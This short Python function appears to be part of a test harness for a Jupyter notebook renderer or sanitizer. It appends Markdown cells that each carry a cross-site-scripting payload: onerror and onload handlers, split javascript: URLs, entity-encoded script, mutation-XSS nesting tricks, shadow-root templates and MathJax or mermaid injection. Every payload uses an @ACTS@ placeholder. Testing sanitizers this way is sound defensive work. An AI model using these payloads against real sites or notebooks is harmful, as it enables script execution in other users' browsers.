# tries: script in what Markdown makes of itself: footnotes, definitions, references, tables, fences of other languages, entities
# %% hand in
def hand_in(notebook, folder):
    from nbformat.v4 import new_markdown_cell

    texts = [
        "[^1]: <img src=x onerror=@ACTS@>\n\n[^1]", "| a | b |\n|:-:|:--|\n| <svg/onload=@ACTS@> | `|` |", "```{=html}\n<script>@ACTS@</script>\n```", "```html onclick=@ACTS@\nx\n```",
        "&#x3c;script&#x3e;@ACTS@&lt;/script>", "<a href='j&#x09;avascript:@ACTS@'>x</a>", "[x](java\nscript:@ACTS@)", "![x](x\"' onerror='@ACTS@)", "<details ontoggle=@ACTS@ open>", "<math><mtext></p><img src=x onerror=@ACTS@></mtext></math>",
        "<noscript><p title='</noscript><img src=x onerror=@ACTS@>'>", "<template shadowrootmode=open><script>@ACTS@</script></template>", "<svg><style><img src=x onerror=@ACTS@></style></svg>", "<p id=MathJax_Config class='tex2jax_process mermaid'>@ACTS@</p>", "\\(\\unicode{x}\\) \\[\\require{html}\\class{x}{y}\\cssId{z}{w}\\]",
    ]
    notebook.cells += [new_markdown_cell(text) for text in texts]
    return notebook
